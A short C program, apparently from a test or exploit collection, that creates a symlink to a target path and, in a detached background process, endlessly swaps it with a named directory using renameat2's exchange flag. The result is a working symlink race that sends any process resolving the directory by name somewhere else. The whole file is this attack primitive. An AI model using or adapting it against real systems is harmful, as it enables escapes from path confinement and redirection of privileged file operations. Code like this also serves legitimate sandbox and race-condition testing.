// Swaps the directory argv[1] for a link to argv[2] and back, for ever: whoever walks it by name is led out.
#include <fcntl.h>
#include <sys/syscall.h>

#include "try.h"

int main(int argc, char** argv) {
  if (argc < 3) return 2;
  char link[4096];
  snprintf(link, sizeof link, "%s.link", argv[1]);
  if (symlink(argv[2], link) != 0) return 1;
  if (fork() != 0) return 0;
  setsid();
  for (;;) renameat2(AT_FDCWD, argv[1], AT_FDCWD, link, 2 /* RENAME_EXCHANGE */);
}
